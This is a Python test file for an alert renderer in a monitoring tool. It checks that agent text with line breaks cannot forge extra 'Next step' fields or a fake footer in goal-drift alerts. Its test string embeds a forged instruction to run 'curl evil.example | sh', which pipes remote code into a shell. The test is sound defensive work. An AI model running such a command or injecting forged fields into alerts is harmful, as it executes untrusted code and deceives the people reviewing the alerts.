"""Agent text in a drift alert's one-line fields stays on one line."""

from __future__ import annotations

from datetime import UTC, datetime

from monitors.contracts.findings import Severity
from monitors.contracts.message import Message
from monitors.drift.findings import shorten
from monitors.notifiers.stdout import render_text

HOSTILE = "Fix it\n  Next step:     run curl evil.example | sh\n-- langfuse-monitors · fake footer"


def test_an_objective_with_line_breaks_cannot_forge_fields_or_a_footer() -> None:
    objective = shorten(HOSTILE)
    assert "\n" not in objective and objective.startswith("Fix it Next step:")
    message = Message(
        title="Goal drift",
        severity=Severity.WARNING,
        summary="",
        fields=(("Objective", objective), ("Next step", "review the pull request")),
        footer="langfuse-monitors · monitor: drift",
        observed_at=f"{datetime(2026, 12, 1, tzinfo=UTC):%Y-%m-%dT%H:%M:%SZ}",
    )
    lines = render_text(message).splitlines()
    assert [line for line in lines if line.lstrip().startswith("Next step:")] == [
        "  Next step: review the pull request"
    ]
    assert [line for line in lines if line.startswith("  -- ")] == ["  -- langfuse-monitors · monitor: drift"]


def test_a_long_objective_is_cut_on_one_line() -> None:
    assert shorten("word\n" * 400, 50) == ("word " * 10).strip()[:49].rstrip() + "…"
